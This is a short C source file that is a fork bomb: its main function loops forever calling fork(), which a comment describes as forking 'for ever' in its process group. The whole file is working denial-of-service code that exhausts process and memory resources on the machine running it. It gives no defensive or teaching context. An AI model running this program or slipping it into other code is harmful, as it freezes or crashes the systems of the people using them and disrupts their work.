/* Forks for ever, in its process group. */
#include <unistd.h>
int main(void) { for (;;) fork(); }
